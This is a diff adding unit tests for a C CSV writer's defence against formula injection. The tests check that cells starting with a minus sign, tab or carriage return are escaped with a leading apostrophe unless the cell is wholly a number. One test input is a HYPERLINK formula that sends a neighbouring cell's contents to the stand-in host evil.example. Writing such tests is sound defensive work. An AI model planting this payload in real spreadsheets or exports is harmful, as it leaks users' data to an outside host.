@@ -50,6 +50,23 @@ static void test_formulas(void **state)
 	assert_string_equal(buf_str(&b), "'-A1,x\r\n");
 	row(&b, "-5", 1); /* a number stays a number */
 	assert_string_equal(buf_str(&b), "-5,x\r\n");
+	row(&b, "-0.25", 1);
+	assert_string_equal(buf_str(&b), "-0.25,x\r\n");
+	/* a leading '-' and a digit is not enough: only a cell that is wholly a number stays bare */
+	row(&b, "-1+HYPERLINK(\"https://evil.example/?\"&B2,\"点击\")", 1);
+	assert_string_equal(buf_str(&b),
+			    "\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"点击\"\")\",x\r\n");
+	row(&b, "-1-1", 1);
+	assert_string_equal(buf_str(&b), "'-1-1,x\r\n");
+	row(&b, "-5.", 1);
+	assert_string_equal(buf_str(&b), "'-5.,x\r\n");
+	row(&b, "-", 1);
+	assert_string_equal(buf_str(&b), "'-,x\r\n");
+	/* tab and CR are triggers too (Excel strips them and runs what follows) */
+	row(&b, "\t=1+1", 1);
+	assert_string_equal(buf_str(&b), "'\t=1+1,x\r\n");
+	row(&b, "\r=1+1", 1);
+	assert_string_equal(buf_str(&b), "\"'\r=1+1\",x\r\n");
 	row(&b, "珠晖区/司法局", 1);
 	assert_string_equal(buf_str(&b), "珠晖区/司法局,x\r\n");
 	row(&b, "=1", 0); /* csv_field writes what it is given */
